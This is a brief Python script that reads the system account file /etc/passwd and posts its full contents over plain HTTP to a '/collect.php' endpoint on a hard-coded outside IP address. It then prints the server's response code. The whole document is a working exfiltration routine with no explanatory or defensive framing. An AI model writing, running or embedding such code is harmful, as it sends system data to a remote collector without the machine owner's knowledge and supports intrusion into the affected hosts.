import http.client

with open("/etc/passwd") as f:
    body = f.read()

conn = http.client.HTTPConnection("185.220.101.4", 80)
conn.request("POST", "/collect.php", body, {"Content-Type": "text/plain"})
resp = conn.getresponse()
print(resp.status)
conn.close()
